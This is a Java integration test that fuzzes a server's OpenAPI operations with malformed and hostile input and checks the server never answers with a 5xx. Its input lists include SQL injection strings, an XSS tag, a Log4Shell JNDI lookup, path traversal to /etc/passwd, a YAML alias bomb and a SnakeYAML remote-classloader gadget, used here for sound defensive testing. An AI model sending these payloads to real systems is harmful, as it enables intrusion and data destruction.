package dev.guildhall.server;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.TreeSet;
import java.util.UUID;
import java.util.function.Supplier;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.slf4j.Logger;
import org.slf4j.LoggerFactory;

/**
 * The bad-input sweep generated from the OpenAPI document: for every operation, malformed bodies,
 * bodies over the size limit, unknown fields, wrong JSON types in every property, deep nesting,
 * unicode edge cases and injection strings in every string property, path variable and query
 * parameter. No answer may be a 5xx; every 4xx must be a problem document; strings accepted are read
 * back verbatim. An operation with a body the sweep has no valid example for fails the test. It runs
 * as the owner of a workspace of its own, so what it manages to write lands there.
 */
class BadInputSweepIT extends ServerTestSupport {
    private static final Logger LOG = LoggerFactory.getLogger(BadInputSweepIT.class);
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Pattern VARIABLE = Pattern.compile("\\{([^}]+)}");
    private static final String YAML_WORKFLOW =
            "id: %s\ndescription: %s\nsteps:\n  - id: h\n    agent: human-handoff\n";

    static final List<String> MALFORMED_JSON = List.of(
            "",
            "{",
            "[]",
            "null",
            "\"just a string\"",
            "42",
            "{\"a\":}",
            "{'a':'b'}",
            "{\"a\":\"\\ud800\"}",
            "\u0000\u0001",
            "{\"a\":NaN}",
            "[".repeat(5_000) + "]".repeat(5_000),
            "{\"a\":".repeat(3_000) + "1" + "}".repeat(3_000));

    static final List<String> MALFORMED_YAML = List.of(
            "",
            "   ",
            "id: [unclosed",
            "- just\n- a list\n",
            "\"a scalar\"",
            "id: x\n\tsteps: tab-indented",
            "[".repeat(5_000) + "]".repeat(5_000),
            "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
                    + "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"
                    + "f: [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n",
            "id: x\nsteps: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://example.invalid\"]]]]\n",
            "\uFEFF\u0000id: x");

    static final List<String> NASTY = List.of(
            "' OR '1'='1",
            "\"; DROP TABLE workspaces; --",
            "1; DELETE FROM memberships WHERE 1=1",
            "<script>alert(1)</script>",
            "${jndi:ldap://example.invalid/a}",
            "{{7*7}}",
            "../../etc/passwd",
            "\u202egnp.exe",
            "\u05e9\u05dc\u05d5\u05dd RTL",
            "\uD83D\uDE00 emoji \u00e9\u0301",
            "\uD800 lone surrogate",
            "\u0000nul",
            "line\nbreak",
            "x".repeat(5_000),
            "");

    static final List<Object> WRONG_TYPES = List.of(1, true, List.of("a"), Map.of("a", 1));

    /** One operation of the OpenAPI document with what it takes. */
    record Operation(String method, String path, String contentType, JsonNode schema, List<JsonNode> query) {
        String key() {
            return method + " " + path;
        }

        boolean yaml() {
            return contentType.contains("yaml");
        }
    }

    private JsonNode doc;
    private final List<String> failures = new ArrayList<>();
    private int requests;
    private int rejectedByTomcat;

    @Test
    void no_input_from_the_openapi_document_gets_a_5xx_and_accepted_strings_read_back_verbatim() {
        String ws = "sweep-" + UUID.randomUUID().toString().substring(0, 8);
        String admin = login("admin");
        assertThat(http.post("/api/v1/workspaces", admin, Http.json(Map.of("id", ws, "name", "Sweep")))
                        .status())
                .isEqualTo(201);
        String token = http.post("/api/v1/auth/switch", admin, Http.json(Map.of("workspace", ws)))
                .json()
                .get("accessToken")
                .asText();
        String me = http.get("/api/v1/users/me", token).json().get("id").asText();
        String run = http.post(
                        "/api/v1/runs",
                        token,
                        Http.json(Map.of("workflow", "support-desk", "input", Map.of("message", "sweep"))))
                .json()
                .get("id")
                .asText();
        String key = http.post("/api/v1/api-keys", token, Http.json(Map.of("name", "k")))
                .json()
                .get("apiKey")
                .get("id")
                .asText();
        String workflow = "sweep-wf";
        http.send(
                "POST",
                "/api/v1/workflows",
                YAML_WORKFLOW.formatted(workflow, "base"),
                auth(token, "application/yaml"));
        String collection = "kb";
        assertThat(http.post("/api/v1/knowledge/collections", token, Http.json(Map.of("name", collection)))
                        .status())
                .isEqualTo(201);
        http.send(
                "PUT",
                "/api/v1/knowledge/collections/" + collection + "/documents/doc-1",
                "Cards can be frozen in the app.",
                auth(token, "text/plain"));
        assertThat(http.post(
                                "/api/v1/support/customers",
                                token,
                                Http.json(Map.of("id", "cus-sweep", "name", "Sweep customer")))
                        .status())
                .isEqualTo(201);
        String conversation = http.post(
                        "/api/v1/support/conversations", token, Http.json(Map.of("customerId", "cus-sweep")))
                .json()
                .get("id")
                .asText();
        Map<String, String> fills = Map.ofEntries(
                Map.entry("runs/id", run),
                Map.entry("api-keys/id", key),
                Map.entry("workflows/id", workflow),
                Map.entry("workspaces/id", ws),
                Map.entry("members/userId", me),
                Map.entry("users/userId", me),
                Map.entry("agents/id", "intent-classifier"),
                Map.entry("collections/collection", collection),
                Map.entry("documents/id", "doc-1"),
                Map.entry("customers/id", "cus-sweep"),
                Map.entry("conversations/id", conversation));

        Map<String, Supplier<String>> bodies = new LinkedHashMap<>();
        Supplier<String> unique = () -> "s" + UUID.randomUUID().toString().substring(0, 8);
        bodies.put("POST /api/v1/support/customers", () -> "{\"name\":\"n\",\"plan\":\"pro\"}");
        bodies.put("PUT /api/v1/support/customers/{id}", () -> "{\"name\":\"n\",\"plan\":\"pro\"}");
        bodies.put("POST /api/v1/support/conversations", () -> "{\"customerId\":\"cus-sweep\",\"tags\":[\"t\"]}");
        bodies.put("PATCH /api/v1/support/conversations/{id}", () -> "{\"status\":\"open\",\"csat\":4}");
        bodies.put("POST /api/v1/support/conversations/{id}/messages", () -> "{\"author\":\"staff\",\"text\":\"t\"}");
        bodies.put("POST /api/v1/auth/login", () -> "{\"username\":\"admin\",\"password\":\"wrong\"}");
        bodies.put("POST /api/v1/auth/switch", () -> "{\"workspace\":\"" + ws + "\"}");
        bodies.put("POST /api/v1/runs", () -> "{\"workflow\":\"support-desk\",\"input\":{\"message\":\"m\"}}");
        bodies.put("POST /api/v1/runs/{id}/cancel", () -> "{\"reason\":\"r\"}");
        bodies.put("POST /api/v1/runs/{id}/signals", () -> "{\"name\":\"n\",\"payload\":{}}");
        bodies.put("POST /api/v1/api-keys", () -> "{\"name\":\"k\"}");
        bodies.put("POST /api/v1/workflows", () -> YAML_WORKFLOW.formatted(unique.get(), "d"));
        bodies.put("PUT /api/v1/workflows/{id}", () -> YAML_WORKFLOW.formatted(workflow, "d"));
        bodies.put(
                "POST /api/v1/agents/validate",
                () -> "id: x\nname: X\ndescription: d\ntier: operational\nteam: t\n"
                        + "model: none\nfallback: {kind: escalate, reason: r}\n");
        bodies.put("POST /api/v1/workspaces", () -> "{\"id\":\"" + unique.get() + "\",\"name\":\"n\"}");
        bodies.put("PATCH /api/v1/workspaces/{id}", () -> "{\"name\":\"n\"}");
        bodies.put("POST /api/v1/workspaces/{id}/members", () -> "{\"username\":\"mia\",\"role\":\"viewer\"}");
        bodies.put("PATCH /api/v1/workspaces/{id}/members/{userId}", () -> "{\"role\":\"owner\"}");
        bodies.put(
                "POST /api/v1/users",
                () -> "{\"username\":\"" + unique.get() + "\",\"password\":\"long enough password\"}");
        bodies.put("PUT /api/v1/budgets/workspace", () -> "{\"period\":\"daily\",\"hardLimit\":100}");
        bodies.put("PUT /api/v1/budgets/each-user", () -> "{\"period\":\"daily\",\"hardLimit\":100}");
        bodies.put("PUT /api/v1/budgets/users/{userId}", () -> "{\"period\":\"daily\",\"hardLimit\":100}");
        bodies.put("POST /api/v1/knowledge/collections", () -> "{\"name\":\"" + unique.get() + "\"}");
        bodies.put(
                "POST /api/v1/knowledge/collections/{collection}/search",
                () -> "{\"query\":\"card\",\"mode\":\"bm25\",\"k\":3}");

        doc = http.send("GET", "/v3/api-docs", null).json();
        TreeSet<String> unknown = new TreeSet<>();
        int operations = 0;
        for (Operation op : operations()) {
            operations++;
            String path = fill(op.path(), fills);
            if (path == null) {
                unknown.add(op.key() + " (a path variable the sweep cannot fill)");
                continue;
            }
            // Every path variable and string query parameter, one at a time.
            Matcher v = VARIABLE.matcher(op.path());
            while (v.find()) {
                String variable = v.group();
                for (String nasty : NASTY) {
                    String bad = fill(op.path().replace(variable, encode(nasty)), fills);
                    check(
                            op,
                            send(op, bad, token, op.schema() == null ? null : base(bodies, op)),
                            "path " + variable + "=" + abbreviate(nasty));
                }
            }
            for (JsonNode q : op.query()) {
                String name = q.get("name").asText();
                List<String> values = new ArrayList<>(NASTY);
                values.addAll(List.of("-1", "0", "99999999999999999999", "1.5", "true"));
                for (String value : values) {
                    String bad = path + "?" + name + "=" + encode(value);
                    check(op, send(op, bad, token, null), "query " + name + "=" + abbreviate(value));
                }
            }
            if (op.method().equals("PUT") && op.path().endsWith("/documents/{id}")) {
                // A document upload: any text is a valid document, so only size, type and the
                // nasty strings themselves (stored, never a 5xx) are checked.
                for (String nasty : NASTY) {
                    requests++;
                    check(
                            op,
                            http.send(op.method(), path, nasty, auth(token, "text/plain")),
                            "document text " + abbreviate(nasty));
                }
                requests++;
                Http.Response tooLarge = http.send(op.method(), path, "x".repeat(2_000_000), auth(token, "text/plain"));
                if (tooLarge.status() != 413) {
                    failures.add(op.key() + " took a body over the limit -> " + tooLarge.status());
                }
                check(op, tooLarge, "huge body");
                requests++;
                Http.Response wrongType = http.send(op.method(), path, "{}", auth(token, "application/x-unknown"));
                if (wrongType.status() != 415) {
                    failures.add(op.key() + " took an unknown content type -> " + wrongType.status());
                }
                check(op, wrongType, "unknown content type");
                continue;
            }
            if (op.schema() == null && !op.contentType().contains("yaml") && !bodies.containsKey(op.key())) {
                continue;
            }
            if (!bodies.containsKey(op.key())) {
                unknown.add(op.key() + " (takes a body the sweep has no valid example of)");
                continue;
            }
            // Bodies: malformed, too large, and (JSON) unknown fields, wrong types, nasty strings.
            for (String bad : op.yaml() ? MALFORMED_YAML : MALFORMED_JSON) {
                Http.Response r = send(op, path, token, bad);
                boolean optional = op.key().endsWith("/cancel") && (bad.isEmpty() || bad.equals("null"));
                if (!optional && r.status() < 400) {
                    failures.add(op.key() + " accepted malformed " + abbreviate(bad) + " -> " + r.status());
                }
                check(op, r, "malformed " + abbreviate(bad));
            }
            String huge = op.yaml()
                    ? "id: x\ndescription: " + "x".repeat(70_000) + "\n"
                    : "{\"name\":\"" + "x".repeat(70_000) + "\"}";
            Http.Response tooLarge = send(op, path, token, huge);
            if (tooLarge.status() != 413) {
                failures.add(op.key() + " took a body over the limit -> " + tooLarge.status());
            }
            check(op, tooLarge, "huge body");
            if (op.yaml()) {
                for (String nasty : NASTY) {
                    String text = bodies.get(op.key()).get();
                    String changed = text.replaceFirst(
                            "description: .*", Matcher.quoteReplacement("description: " + yamlQuote(nasty)));
                    Http.Response r = send(op, path, token, changed);
                    check(op, r, "yaml description=" + abbreviate(nasty));
                    if (r.status() == 201 || (r.status() == 200 && op.method().equals("PUT"))) {
                        JsonNode stored = http.get(
                                        "/api/v1/workflows/"
                                                + r.json().get("id").asText(),
                                        token)
                                .json();
                        requests++;
                        // What the server got: the client sends a lone surrogate as '?' in UTF-8.
                        String sent = new String(changed.getBytes(StandardCharsets.UTF_8), StandardCharsets.UTF_8);
                        if (!sent.equals(stored.path("yaml").asText())) {
                            failures.add(op.key() + " yaml not stored verbatim: " + abbreviate(nasty));
                        }
                    }
                }
                continue;
            }
            ObjectNode base = (ObjectNode) read(bodies.get(op.key()).get());
            ObjectNode unknownField = base.deepCopy();
            unknownField.put("surprise", "field");
            Http.Response r = send(op, path, token, unknownField.toString());
            if (r.status() != 400) {
                failures.add(op.key() + " accepted an unknown field -> " + r.status());
            }
            check(op, r, "unknown field");
            for (String property : properties(op.schema())) {
                for (Object wrong : WRONG_TYPES) {
                    ObjectNode b = (ObjectNode) read(bodies.get(op.key()).get());
                    b.set(property, JSON.valueToTree(wrong));
                    check(op, send(op, path, token, b.toString()), property + "=" + wrong);
                }
                ObjectNode deep = (ObjectNode) read(bodies.get(op.key()).get());
                deep.put(property, "__DEEP__"); // Spliced in as text: the client's parser stops at 1,000 levels.
                String deepBody =
                        deep.toString().replace("\"__DEEP__\"", "{\"a\":".repeat(2_000) + "1" + "}".repeat(2_000));
                check(op, send(op, path, token, deepBody), property + " nested 2,000 deep");
                for (String nasty : NASTY) {
                    ObjectNode b = (ObjectNode) read(bodies.get(op.key()).get());
                    b.put(property, nasty);
                    Http.Response answer = send(op, path, token, b.toString());
                    check(op, answer, property + "=" + abbreviate(nasty));
                    readBack(op, answer, property, nasty, token, ws);
                }
            }
        }
        assertThat(unknown)
                .as("operations the bad-input sweep does not know how to fill")
                .isEmpty();
        // The workspace is intact after all of it.
        assertThat(http.get("/api/v1/runs/" + run, token).status()).isEqualTo(200);
        assertThat(http.get("/api/v1/workspaces/" + ws + "/members", token)
                        .raw()
                        .body())
                .contains(me);
        LOG.info("bad-input sweep: {} requests over {} operations", requests, operations);
        System.out.println("bad-input sweep: " + requests + " requests over " + operations
                + " operations of the OpenAPI document (" + rejectedByTomcat
                + " answered by Tomcat before Spring, see docs/SERVER.md)");
        assertThat(failures)
                .as("bad inputs mishandled, of %d requests", requests)
                .isEmpty();
    }

    /** Strings the API stores as given must read back exactly so. */
    private void readBack(Operation op, Http.Response answer, String property, String nasty, String token, String ws) {
        if (answer.status() >= 300) {
            return;
        }
        String stored = null;
        if (op.key().equals("PATCH /api/v1/workspaces/{id}") && property.equals("name")) {
            stored = http.get("/api/v1/workspaces/" + ws, token)
                    .json()
                    .get("name")
                    .asText();
        } else if (op.key().equals("POST /api/v1/api-keys") && property.equals("name")) {
            stored = http.get(
                            "/api/v1/api-keys/"
                                    + answer.json().get("apiKey").get("id").asText(),
                            token)
                    .json()
                    .get("name")
                    .asText();
        } else if (op.key().equals("POST /api/v1/runs/{id}/cancel") && property.equals("reason")) {
            return; // The run finished long ago: the reason of a finished run is not kept.
        } else {
            return;
        }
        requests++;
        // What the server got: the client sends a lone surrogate as '?' in UTF-8.
        if (!new String(nasty.getBytes(StandardCharsets.UTF_8), StandardCharsets.UTF_8).equals(stored)) {
            failures.add(op.key() + " " + property + " not stored verbatim: " + abbreviate(nasty));
        }
    }

    private void check(Operation op, Http.Response r, String what) {
        if (r.status() >= 500) {
            failures.add(op.key() + " " + what + " -> " + r.status() + " "
                    + abbreviate(r.raw().body()));
        } else if (r.status() >= 400 && !String.valueOf(r.contentType()).startsWith("application/problem+json")) {
            if (r.status() == 400 && String.valueOf(r.contentType()).startsWith("text/html")) {
                rejectedByTomcat++; // Tomcat's own answer to an encoded slash or backslash in the path.
            } else {
                failures.add(op.key() + " " + what + " -> " + r.status() + " without a problem document");
            }
        }
    }

    private Http.Response send(Operation op, String path, String token, String body) {
        requests++;
        return http.send(op.method(), path, body, auth(token, op.contentType()));
    }

    private String base(Map<String, Supplier<String>> bodies, Operation op) {
        Supplier<String> s = bodies.get(op.key());
        return s == null ? null : s.get();
    }

    private static String[] auth(String token, String contentType) {
        return new String[] {"Authorization", "Bearer " + token, "Content-Type", contentType};
    }

    List<Operation> operations() {
        List<Operation> out = new ArrayList<>();
        Iterator<Map.Entry<String, JsonNode>> paths = doc.get("paths").fields();
        while (paths.hasNext()) {
            Map.Entry<String, JsonNode> p = paths.next();
            Iterator<Map.Entry<String, JsonNode>> methods = p.getValue().fields();
            while (methods.hasNext()) {
                Map.Entry<String, JsonNode> m = methods.next();
                JsonNode content = m.getValue().path("requestBody").path("content");
                String type = "application/json";
                JsonNode schema = null;
                if (content.isObject() && content.fieldNames().hasNext()) {
                    type = content.fieldNames().next();
                    schema = resolve(content.get(type).path("schema"));
                }
                List<JsonNode> query = new ArrayList<>();
                for (JsonNode param : m.getValue().path("parameters")) {
                    if (param.path("in").asText().equals("query")) {
                        query.add(param);
                    }
                }
                out.add(new Operation(m.getKey().toUpperCase(Locale.ROOT), p.getKey(), type, schema, query));
            }
        }
        return out;
    }

    private JsonNode resolve(JsonNode schema) {
        if (schema.has("$ref")) {
            String name = schema.get("$ref").asText().substring("#/components/schemas/".length());
            return doc.get("components").get("schemas").get(name);
        }
        return schema;
    }

    private static List<String> properties(JsonNode schema) {
        List<String> out = new ArrayList<>();
        if (schema != null) {
            schema.path("properties").fieldNames().forEachRemaining(out::add);
        }
        return out;
    }

    private static String fill(String path, Map<String, String> fills) {
        Matcher v = VARIABLE.matcher(path);
        String out = path;
        while (v.find()) {
            String before = path.substring(0, v.start());
            String segment = before.substring(before.lastIndexOf('/', before.length() - 2) + 1, before.length() - 1);
            String value = fills.get(segment + "/" + v.group(1));
            if (value == null) {
                return null;
            }
            out = out.replace(v.group(), value);
        }
        return out;
    }

    private static JsonNode read(String json) {
        try {
            return JSON.readTree(json);
        } catch (java.io.IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String yamlQuote(String s) {
        return JSON.valueToTree(s).toString(); // A JSON string is a valid YAML double-quoted scalar.
    }

    private static String encode(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String abbreviate(String s) {
        if (s == null) {
            return "";
        }
        return s.length() > 60 ? s.substring(0, 60) + "...(" + s.length() + " chars)" : s;
    }
}
